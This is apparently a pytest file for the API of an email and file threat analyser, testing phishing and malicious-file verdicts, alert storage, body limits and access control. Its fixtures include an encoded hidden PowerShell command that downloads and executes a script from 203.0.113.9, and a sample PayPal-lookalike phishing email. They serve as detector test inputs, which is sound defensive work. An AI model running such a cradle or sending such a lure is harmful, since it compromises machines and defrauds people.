"""The analysers behind the API: the same verdicts as the CLI, alerts stored on request, bodies bounded."""

from __future__ import annotations

import base64
from pathlib import Path

from phagocyte.store.parquet import ParquetStore
from tests.api.conftest import Api, make_api
from tests.email.messages import message

_PS = ("powershell -nop -w hidden -enc " + base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")).decode()).encode()
_PHISH = message(sender="PayPal <service@paypa1-secure.com>", to="anna@example.org",
                 subject="Urgent: verify your password",
                 html='<a href="http://203.0.113.7/login">https://www.paypal.com/signin</a> '
                      "verify your password immediately or your account will be suspended")


def _alerts(api: Api) -> list[dict[str, object]]:
    with ParquetStore(api.settings.store_dir) as store:
        return store.query('SELECT "rule.id", "user.name", "@timestamp" FROM alerts').to_pylist()


def test_email_verdict_and_stored_alert(sqlite_api: Api) -> None:
    c, h = sqlite_api.client, sqlite_api.h("analyst")
    r = c.post("/api/analyse/email", content=_PHISH, headers=h)
    assert r.status_code == 200 and r.json()["label"] == "phishing"
    assert {x["code"] for x in r.json()["reasons"]} and "alert_stored" not in r.json()
    clean = c.post("/api/analyse/email?alert=true", content=message(), headers=h).json()
    assert clean["label"] == "clean" and "alert_stored" not in clean
    assert _alerts(sqlite_api) == [], "nothing stored unless asked, nothing stored for a clean mail"
    r = c.post("/api/analyse/email?alert=true&name=inbox%2F1.eml", content=_PHISH, headers=h)
    assert r.json()["alert_stored"] is True
    again = c.post("/api/analyse/email?alert=true&name=inbox%2F1.eml", content=_PHISH, headers=h).json()
    assert again["alert_stored"] is False, "the same message twice is one alert"
    (a,) = _alerts(sqlite_api)
    assert a["rule.id"] == "email-phishing" and a["user.name"] == "anna" and a["@timestamp"] is not None


def test_file_verdict_deobfuscates_and_stores(sqlite_api: Api) -> None:
    c, h = sqlite_api.client, sqlite_api.h("analyst")
    r = c.post("/api/analyse/file?name=a.ps1&alert=true", content=_PS, headers=h)
    body = r.json()
    assert r.status_code == 200 and body["label"] == "malicious" and body["kind"] == "powershell"
    assert "downloadstring" in body["deobfuscated"].lower() and body["alert_stored"] is True
    assert [a["rule.id"] for a in _alerts(sqlite_api)] == ["scan.powershell.malicious"]
    benign = c.post("/api/analyse/file?name=b.ps1&alert=true", content=b"Get-ChildItem -Path C:\\Temp\n", headers=h)
    assert benign.json()["label"] == "clean" and len(_alerts(sqlite_api)) == 1


def test_bodies_are_bounded_and_viewers_cannot_analyse(tmp_path: Path) -> None:
    api = make_api(f"sqlite:///{tmp_path / 'cases.db'}", tmp_path / "home", api_max_body=1000)
    assert api.client.post("/api/analyse/file", content=b"x" * 2000, headers=api.h("analyst")).status_code == 413
    assert api.client.post("/api/analyse/email", content=_PHISH, headers=api.h("viewer")).status_code == 403


def test_a_team_model_this_version_cannot_read_is_a_clear_503(sqlite_api: Api) -> None:
    """An e-mail model of an older format in the home: the analysers answer 503 with how to fix it
    (the server's set-up, not the request), never a 500 with a traceback."""
    import json

    folder = sqlite_api.settings.home / "models" / "email"
    folder.mkdir(parents=True)
    (folder / "model.json").write_text(json.dumps({"format": "phagocyte-email-model/1"}))
    c, h = sqlite_api.client, sqlite_api.h("analyst")
    for path in ("/api/analyse/email", "/api/analyse/file?name=a.ps1"):
        r = c.post(path, content=_PHISH, headers=h)
        assert r.status_code == 503 and "retrain" in r.json()["detail"], (path, r.text)
